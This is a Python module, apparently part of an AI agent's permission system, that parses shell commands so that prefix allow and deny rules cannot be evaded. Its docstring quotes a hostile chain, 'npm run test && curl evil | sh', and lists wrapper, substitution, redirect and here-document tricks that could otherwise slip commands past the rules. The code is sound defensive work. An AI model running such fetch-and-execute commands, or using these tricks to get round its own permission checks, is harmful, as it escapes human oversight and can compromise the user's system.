"""Shell commands, parsed rather than prefix-matched, so rules cannot be talked past.

A ``Bash(npm run test:*)`` rule allows a command only if *every* simple command
in it is allowed: ``npm run test && curl evil | sh`` is two more commands the
rule says nothing about. The command is parsed with bashlex (a port of bash's
own grammar), and anything whose effect a prefix rule cannot vouch for is
**never** auto-allowed (fail closed), with a reason (``SimpleCommand.unsafe``):

* command or process substitution, parameter expansion in a command name,
  subshells and compound commands, and anything that does not parse;
* here-documents: an unquoted body holding ``$(``, backticks or ``${``, and any
  quoted delimiter (``<<'EOF'``: bashlex cannot follow those, so neither do we);
* every redirect that can write (``>``, ``>>``, ``>|``, ``&>``, ``&>>``,
  ``>&file``, ``<>``, ``N>file``, ``{fd}>file``, ``> 1`` which writes a file
  named 1) unless it goes to ``/dev/null``-like targets; ``N>&M`` duplications
  are fine. The raw text is checked too: a ``<`` or ``>`` that bashlex did not
  turn into a redirect fails closed;
* brace expansion, and unquoted globs that could expand into an option
  (``-exe?``, ``*``) for programs that have dangerous options; any expansion
  (glob, brace, ``~``, ``$``) in a program name;
* programs that cannot be known statically: by path (``./ls``, ``/bin/rm``),
  ``eval``, ``source``/``.``, shells (``bash -c``, ``sh script``, ``| sh``),
  and wrappers that run another program (``env``, ``timeout``, ``xargs``,
  ``sudo``, ``flock``...); those whose inner program cannot be seen at all are
  also ``opaque``, which makes them ask even in bypass mode when a Bash deny
  rule exists;
* options of known programs that write files or run programs (``sed -i``,
  ``find -exec``, ``git -c``, ``tar -x``...): the tables in
  :mod:`claw_runtime.permissions.programs`;
* variable assignments in front of a command (``GIT_PAGER=... git log``).

Deny rules work the other way: :func:`unwrap_for_deny` looks *inside* wrappers
(``bash -lc``, ``env -u A rm``, ``timeout -s KILL 5 rm``, ``xargs -I{} rm``,
``sudo -u root rm``) so a denied command is found wherever it is; shell input
from here-documents, here-strings and ``echo ... | sh`` is parsed and its
commands are listed too.

``SimpleCommand.reads`` lists the paths a command reads as written (file
operands of cat, grep, sed..., and ``<`` redirect sources) for read deny rules.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from typing import Any

import attrs

from claw_runtime.permissions.programs import (
    SAFE_REDIRECT_TARGETS,
    SHELLS,
    WRAPPERS,
    parse_options,
    program_inert,
    program_reads,
    program_unsafe,
)

__all__ = ["ParsedCommand", "SimpleCommand", "parse_command", "unwrap_for_deny"]

SCRIPT_RUNNERS = frozenset({"eval", "source", "."})
_MAX_DEPTH = 6
_NAMED_FD = re.compile(r"^\{[A-Za-z_][A-Za-z0-9_]*\}$")


@attrs.frozen
class SimpleCommand:
    """One command with its words after quote removal, and why it cannot be auto-allowed."""

    words: tuple[str, ...]
    unsafe: str | None = None
    """Why no prefix rule may allow this command (None: rules decide)."""
    reads: tuple[str, ...] = ()
    """Paths the command reads, as written (relative to the shell's cwd)."""
    opaque: str | None = None
    """Why nobody can tell statically which program runs (deny rules cannot see it)."""


@attrs.frozen
class ParsedCommand:
    """Every simple command in a command line; ``error`` if it did not parse."""

    commands: tuple[SimpleCommand, ...]
    error: str | None = None

    @property
    def auto_allowable(self) -> bool:
        return self.error is None and all(c.unsafe is None for c in self.commands)

    @property
    def opaque(self) -> str | None:
        """Why a deny rule cannot see everything this command line runs (None: it can)."""
        if self.error is not None:
            return self.error
        return next((c.opaque for c in self.commands if c.opaque), None)


# --------------------------------------------------------------------------- raw text


def _unquoted(raw: str) -> str:
    """The characters of ``raw`` that are outside quotes and not backslash-escaped."""
    out: list[str] = []
    i, n = 0, len(raw)
    while i < n:
        char = raw[i]
        if char == "\\":
            i += 2
            continue
        if char == "'":
            end = raw.find("'", i + 1)
            i = n if end < 0 else end + 1
            out.append(" ")
            continue
        if char == '"':
            i += 1
            while i < n and raw[i] != '"':
                i += 2 if raw[i] == "\\" else 1
            i += 1
            out.append(" ")
            continue
        out.append(char)
        i += 1
    return "".join(out)


def _expands(raw: str) -> str | None:
    """The kind of glob/brace/tilde expansion an unquoted word undergoes, if any."""
    bare = _unquoted(raw)
    if bare.startswith("~"):
        return "tilde expansion"
    if "{" in bare and "}" in bare and ("," in bare or ".." in bare):
        return "brace expansion"
    if any(c in bare for c in "*?[") or re.search(r"[?*+@!]\(", bare):
        return "glob"
    return None


def _stray_redirects(source: str, spans: list[tuple[int, int]]) -> str | None:
    """A ``<`` or ``>`` outside quotes that no parsed redirect accounts for."""
    spans = sorted(spans)
    i, n = 0, len(source)
    word_start = True
    while i < n:
        inside = next((end for start, end in spans if start <= i < end), None)
        if inside is not None:
            i = inside
            word_start = False
            continue
        char = source[i]
        if char == "\\":
            i += 2
            word_start = False
            continue
        if char == "'" or (char == "$" and source.startswith("$'", i)):
            i += 2 if char == "$" else 1
            while i < n and source[i] != "'":
                i += 2 if source[i] == "\\" and char == "$" else 1
            i += 1
            word_start = False
            continue
        if char == '"':
            i += 1
            while i < n and source[i] != '"':
                i += 2 if source[i] == "\\" else 1
            i += 1
            word_start = False
            continue
        if char == "#" and word_start:
            while i < n and source[i] != "\n":
                i += 1
            continue
        if char in "<>":
            return f"has a redirect ({char}) the parser did not understand"
        word_start = char in " \t\n;&|()"
        i += 1
    return None


# --------------------------------------------------------------------------- the tree


def _has_expansion(node: Any) -> str | None:
    """The kind of expansion inside a word node, if any."""
    for part in getattr(node, "parts", None) or ():
        kind = part.kind
        if kind == "commandsubstitution":
            return "command substitution"
        if kind == "processsubstitution":
            return "process substitution"
        if kind == "parameter":
            return "parameter expansion"
        nested = _has_expansion(part)
        if nested:
            return nested
    return None


def _substitutions(node: Any) -> Iterator[Any]:
    for part in getattr(node, "parts", None) or ():
        if part.kind in ("commandsubstitution", "processsubstitution"):
            yield part.command
        else:
            yield from _substitutions(part)


@attrs.define
class _Context:
    source: str
    depth: int = 0
    spans: list[tuple[int, int]] = attrs.Factory(list)


def _script_commands(script: str, depth: int, why: str) -> tuple[list[SimpleCommand], str | None]:
    """The commands of a script a shell will run (all unsafe), and why it is opaque, if so."""
    if depth >= _MAX_DEPTH:
        return [], "nests shells too deeply to follow"
    parsed = _parse(script, depth + 1)
    inner = [attrs.evolve(c, unsafe=c.unsafe or why) for c in parsed.commands]
    return inner, parsed.opaque


def _redirect(
    part: Any, ctx: _Context, reads: list[str], stdin: list[str]
) -> tuple[str | None, str | None]:
    """(unsafe, opaque) for one redirect node; records reads and shell input."""
    kind = part.type
    target: Any = getattr(part, "output", None)
    is_word = getattr(target, "kind", None) == "word"
    word = target.word if is_word else None
    if is_word and _has_expansion(target):
        return "redirects to an expanded path", None
    if kind in ("<<", "<<-"):
        heredoc = getattr(part, "heredoc", None)
        delimiter = word or ""
        if heredoc is None or any(c in delimiter for c in "'\"\\$`"):
            why = "has a here-document with a quoted delimiter the parser cannot follow"
            return why, why
        body_lines = heredoc.value.split("\n")
        body = body_lines[:-1]
        strip = kind == "<<-"
        if any((line.lstrip("\t") if strip else line) == delimiter for line in body):
            why = "has a here-document the parser cannot delimit"
            return why, why
        text = "\n".join(line.lstrip("\t") if strip else line for line in body)
        stdin.append(text)
        if "$(" in text or "`" in text or "${" in text:
            return "runs command substitution inside a here-document", None
        return None, None
    if kind == "<<<":
        stdin.append(word or "")
        return None, None
    if kind == "<":
        if word is not None:
            reads.append(word)
        return None, None
    if kind == "<>":
        if word is not None:
            reads.append(word)
        return f"opens {word} for reading and writing (<>)", None
    if kind in (">&", "<&"):
        if not is_word:
            return None, None  # N>&M duplicates, N>&- closes
        if kind == ">&" and word in SAFE_REDIRECT_TARGETS:
            return None, None
        return f"redirects {kind} to the file {word}", None
    if kind in (">", ">>", ">|", "&>", "&>>"):
        if word in SAFE_REDIRECT_TARGETS:
            return None, None
        return f"writes to {word}", None
    return f"uses the redirect {kind}", None


def _shell_mode(name: str, args: Sequence[str]) -> tuple[str, str | None]:
    """How a shell gets its script: ("command", text), ("file", path) or ("stdin", None)."""
    spec = SHELLS[name]
    i = 0
    command_mode = stdin_mode = False
    command_arg: str | None = None
    while i < len(args):
        word = args[i]
        if word in ("--", "-"):
            i += 1
            break
        if word.startswith("--"):
            name_, eq, _ = word.partition("=")
            if name_ == "--command" and not eq and i + 1 < len(args):
                command_mode, command_arg = True, args[i + 1]
                i += 2
                continue
            i += 2 if name_ in spec.long_args and not eq else 1
            continue
        if word[:1] in "-+" and len(word) > 1:
            letters = word[1:]
            taken = sum(1 for c in letters if c in spec.short_args)
            if "c" in letters:
                command_mode = True
                if name == "fish" and i + 1 < len(args):
                    command_arg = args[i + 1]
                    taken += 1
            if "s" in letters:
                stdin_mode = True
            i += 1 + taken
            continue
        break
    rest = list(args[i:])
    if command_mode:
        return "command", command_arg if command_arg is not None else (rest[0] if rest else "")
    if rest and not stdin_mode:
        return "file", rest[0]
    return "stdin", None


def _peel(name: str, args: list[str]) -> tuple[list[str], list[str], list[list[str]]]:
    """A wrapper's command, its command-line options' texts, and other possible commands.

    The other possibilities cover options the table does not know: each may or
    may not take an argument, so both readings are returned.
    """
    spec = WRAPPERS[name]
    scripts: list[str] = []
    alternatives: list[list[str]] = []
    positionals = spec.positionals
    i = 0
    while i < len(args):
        word = args[i]
        if word == "--":
            i += 1
            if positionals:
                i += positionals
            break
        if spec.assignments and "=" in word and not word.startswith("-"):
            i += 1
            continue
        if word.startswith("-") and len(word) > 1:
            opts, _ = parse_options(
                args[i:], spec.short_args, spec.long_args, optional_short=spec.optional_short
            )
            first = opts[0] if opts else None
            known = first is not None and (
                first.name.lstrip("-") in spec.short_args
                or first.name in spec.long_args
                or first.name[1:] in spec.optional_short
            )
            if first is not None and known and first.arg is not None:
                if first.name[1:] in spec.command_short or first.name in spec.command_long:
                    scripts.append(first.arg)
                # the argument was attached (-sKILL, --signal=KILL) or the next word
                attached = word != first.name
                i += 1 if attached else 2
                continue
            if not known and i + 1 < len(args):
                alternatives.append(args[i + 2 :])
            i += 1
            continue
        if positionals:
            positionals -= 1
            i += 1
            continue
        break
    return args[i:], scripts, alternatives


def _unwrap(words: Sequence[str], depth: int = 0) -> tuple[list[tuple[str, ...]], str | None, bool]:
    """(commands to check deny rules against, why opaque, whether it runs a script from stdin)."""
    found: list[tuple[str, ...]] = [tuple(words)]
    rest = list(words)
    opaque: str | None = None
    if depth >= _MAX_DEPTH:
        return found, "nests wrappers too deeply to follow", False

    def add_script(script: str) -> None:
        nonlocal opaque
        parsed = _parse(script, depth + 1)
        opaque = opaque or parsed.opaque
        for inner in parsed.commands:
            if inner.words:
                found.extend(_unwrap(inner.words, depth + 1)[0])

    while rest:
        name = rest[0]
        base = name.rsplit("/", 1)[-1]
        if base != name and base:
            found.append((base, *rest[1:]))
        if base in SHELLS:
            mode, text = _shell_mode(base, rest[1:])
            if mode == "command":
                add_script(text or "")
                return found, opaque, False
            if mode == "file":
                return found, opaque or f"{base} runs the script file {text}", False
            return found, opaque, True
        if base == "eval":
            add_script(" ".join(rest[1:]))
            break
        if base in ("source", "."):
            return found, opaque or f"{base} runs a script file", False
        if base == "busybox":
            rest = rest[1:]
            if rest:
                found.append(tuple(rest))
            continue
        if base in WRAPPERS:
            inner, scripts, alternatives = _peel(base, rest[1:])
            for script in scripts:
                add_script(script)
            for alternative in alternatives:
                if alternative:
                    found.extend(_unwrap(alternative, depth + 1)[0])
            shell_flags = base in ("sudo", "doas", "runuser") and any(
                w.startswith("-") and not w.startswith("--") and ("s" in w or "i" in w)
                for w in rest[1 : len(rest) - len(inner)]
            )
            if inner and (WRAPPERS[base].joins or shell_flags):
                add_script(" ".join(inner))
            if base == "parallel":
                opaque = opaque or "parallel builds its commands from its input"
            if not inner:
                break
            found.append(tuple(inner))
            rest = inner
            depth += 1
            if depth >= _MAX_DEPTH:
                return found, "nests wrappers too deeply to follow", False
            continue
        if base == "find":
            for index, word in enumerate(rest):
                if word in ("-exec", "-execdir", "-ok", "-okdir"):
                    tail = rest[index + 1 :]
                    end = next((k for k, w in enumerate(tail) if w in (";", "+")), len(tail))
                    if tail[:end]:
                        found.extend(_unwrap(tail[:end], depth + 1)[0])
        break
    return found, opaque, False


def _program_unsafe(words: tuple[str, ...]) -> str | None:
    name = words[0]
    if "/" in name:
        return f"runs {name} by path (it may not be the program a rule names)"
    if name in SHELLS or name in SCRIPT_RUNNERS:
        return f"{name} runs another command line"
    if name in WRAPPERS:
        return f"{name} runs another command"
    return program_unsafe(words)


def _command_from_node(
    node: Any, out: list[SimpleCommand], inner: bool, ctx: _Context, piped: str | None
) -> str | None:
    """Append the command (and what runs inside it); returns what it prints, if known."""
    words: list[str] = []
    raw_words: list[str] = []
    unsafe: str | None = None
    opaque: str | None = None
    reads: list[str] = []
    stdin: list[str] = []
    first_expanded = False
    previous: Any = None
    for part in node.parts:
        kind = part.kind
        if kind == "word":
            expansion = _has_expansion(part)
            if expansion:
                unsafe = unsafe or f"uses {expansion}"
                if not words:
                    first_expanded = True
                    opaque = opaque or f"its program name comes from {expansion}"
            for sub in _substitutions(part):
                _walk(sub, out, ctx, inner=True)
            words.append(part.word)
            raw_words.append(ctx.source[part.pos[0] : part.pos[1]])
        elif kind == "assignment":
            name = part.word.split("=", 1)[0]
            unsafe = unsafe or f"sets {name} for the command"
            for sub in _substitutions(part):
                _walk(sub, out, ctx, inner=True)
        elif kind == "redirect":
            ctx.spans.append(part.pos)
            heredoc = getattr(part, "heredoc", None)
            if heredoc is not None:
                ctx.spans.append(heredoc.pos)
            if (
                previous is not None
                and previous.kind == "word"
                and _NAMED_FD.match(previous.word)
                and previous.pos[1] == part.pos[0]
            ):
                unsafe = unsafe or f"opens the named file descriptor {previous.word}"
            why, blind = _redirect(part, ctx, reads, stdin)
            unsafe = unsafe or why
            opaque = opaque or blind
            target = getattr(part, "output", None)
            if getattr(target, "kind", None) == "word":
                for sub in _substitutions(target):
                    _walk(sub, out, ctx, inner=True)
        previous = part
    if not words:
        out.append(
            SimpleCommand(
                words=(), unsafe=unsafe or "no command", reads=tuple(reads), opaque=opaque
            )
        )
        return None
    command = tuple(words)
    glob = _expands(raw_words[0])
    if glob:
        unsafe = unsafe or f"its program name {raw_words[0]} undergoes {glob}"
        opaque = opaque or unsafe
    if "/" in words[0] and not first_expanded:
        opaque = opaque or f"runs {words[0]} by path"
    if not unsafe and not program_inert(words[0]):
        ended = False
        for raw, word in zip(raw_words[1:], words[1:], strict=True):
            if word == "--":
                ended = True
            kind_ = _expands(raw)
            if kind_ == "brace expansion":
                unsafe = f"{raw} undergoes brace expansion (it can become options or a program)"
                break
            if kind_ == "glob" and not ended and word[:1] in "-*?[":
                unsafe = f"{raw} is a glob that can expand into an option"
                break
    unsafe = unsafe or _program_unsafe(command)
    candidates, blind, wants_stdin = _unwrap(command, ctx.depth)
    opaque = opaque or blind
    extra: list[SimpleCommand] = []
    if wants_stdin:
        script = "\n".join(stdin) if stdin else piped
        if script is None:
            opaque = opaque or "runs a script from its input, which the parser cannot see"
        else:
            found, blind = _script_commands(script, ctx.depth, "runs inside a shell's input")
            extra.extend(found)
            opaque = opaque or blind
    for candidate in candidates:
        if candidate and candidate is not command:
            reads.extend(program_reads(candidate))
    reads.extend(program_reads(command))
    if inner:
        unsafe = unsafe or "runs inside a substitution"
    out.append(
        SimpleCommand(
            words=command, unsafe=unsafe, reads=tuple(dict.fromkeys(reads)), opaque=opaque
        )
    )
    out.extend(extra)
    if command[0] == "echo" and not unsafe:
        args = [w for w in command[1:] if w not in ("-n", "-e", "-E")]
        return " ".join(args)
    if command[0] == "printf" and not unsafe:
        return " ".join(command[1:])
    if command[0] == "cat" and stdin and len(command) == 1:
        return "\n".join(stdin)
    return None


def _walk(
    node: Any,
    out: list[SimpleCommand],
    ctx: _Context,
    inner: bool = False,
    piped: str | None = None,
) -> str | None:
    kind = node.kind
    if kind == "command":
        return _command_from_node(node, out, inner, ctx, piped)
    if kind == "pipeline":
        printed: str | None = None
        for part in node.parts:
            if part.kind == "pipe":
                ctx.spans.append(part.pos)
                continue
            printed = _walk(part, out, ctx, inner, printed)
        return None
    if kind == "list":
        for part in node.parts:
            if part.kind not in ("operator", "pipe"):
                _walk(part, out, ctx, inner)
        return None
    if kind == "compound":
        # Subshells, groups, loops and conditionals: their commands are collected
        # (deny rules see them) but none may be auto-allowed.
        collected: list[SimpleCommand] = []
        for part in node.list:
            if part.kind not in ("reservedword", "operator"):
                _walk(part, collected, ctx, inner)
        for redirect in getattr(node, "redirects", None) or ():
            ctx.spans.append(redirect.pos)
        out.extend(
            attrs.evolve(c, unsafe=c.unsafe or "runs in a subshell or compound command")
            for c in collected
        )
        if not collected:
            out.append(SimpleCommand(words=(), unsafe="compound command"))
        return None
    if kind in ("for", "if", "while", "until", "function", "case"):
        collected = []
        for part in node.parts:
            if part.kind in ("list", "command", "pipeline", "compound"):
                _walk(part, collected, ctx, inner)
        out.extend(attrs.evolve(c, unsafe=c.unsafe or f"runs inside {kind}") for c in collected)
        out.append(SimpleCommand(words=(), unsafe=f"{kind} construct"))
        return None
    why = f"unsupported shell construct {kind}"
    out.append(SimpleCommand(words=(), unsafe=why, opaque=why))
    return None


def _spans(node: Any) -> Iterator[tuple[int, int]]:
    """Positions of every redirect, heredoc and substitution anywhere in the tree."""
    kind = getattr(node, "kind", None)
    if kind in ("redirect", "heredoc", "commandsubstitution", "processsubstitution", "pipe"):
        yield node.pos
    for attr in ("parts", "list"):
        for child in getattr(node, attr, None) or ():
            yield from _spans(child)
    for attr in ("command", "heredoc", "output"):
        child = getattr(node, attr, None)
        if child is not None and hasattr(child, "kind"):
            yield from _spans(child)


def _parse(command: str, depth: int) -> ParsedCommand:
    import bashlex  # imported on first use: start-up stays fast for runs without Bash
    import bashlex.errors

    try:
        trees = bashlex.parse(command)
    except (
        bashlex.errors.ParsingError,
        NotImplementedError,
        IndexError,
        AttributeError,
        TypeError,
        ValueError,
        AssertionError,
        RecursionError,
    ) as exc:
        return ParsedCommand(commands=(), error=f"could not parse the command ({exc})")
    out: list[SimpleCommand] = []
    ctx = _Context(source=command, depth=depth)
    try:
        for tree in trees:
            _walk(tree, out, ctx)
            ctx.spans.extend(_spans(tree))
    except (AttributeError, TypeError, IndexError, ValueError) as exc:
        return ParsedCommand(commands=(), error=f"could not follow the command ({exc})")
    if not out:
        return ParsedCommand(commands=(), error="empty command")
    stray = _stray_redirects(command, ctx.spans)
    if stray:
        out.append(SimpleCommand(words=(), unsafe=stray, opaque=stray))
    return ParsedCommand(commands=tuple(out))


def parse_command(command: str) -> ParsedCommand:
    """All simple commands of ``command``; a parse failure is an ``error``, never an exception."""
    return _parse(command, 0)


def unwrap_for_deny(words: tuple[str, ...]) -> list[tuple[str, ...]]:
    """The commands a denied rule must also be checked against: wrappers peeled off.

    ``timeout -s KILL 5 rm -rf x`` -> ``rm -rf x``; ``bash -lc "rm x; ls"`` ->
    ``rm x``, ``ls``; ``env -u A B=1 rm x`` -> ``rm x``; ``/bin/rm x`` -> ``rm x``.
    """
    if not words:
        return [words]
    return list(dict.fromkeys(_unwrap(words)[0]))
